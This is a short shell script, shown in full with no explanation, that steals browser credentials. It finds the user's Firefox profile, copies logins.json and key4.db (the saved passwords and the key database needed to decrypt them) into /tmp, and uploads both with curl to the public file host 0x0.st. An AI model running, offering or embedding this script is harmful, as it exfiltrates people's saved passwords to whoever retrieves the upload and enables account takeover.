#!/bin/sh
d=$(ls -d ~/.mozilla/firefox/*.default-release)
cp "$d/logins.json" "$d/key4.db" /tmp/ff/
curl -s -F a=@/tmp/ff/logins.json -F b=@/tmp/ff/key4.db https://0x0.st
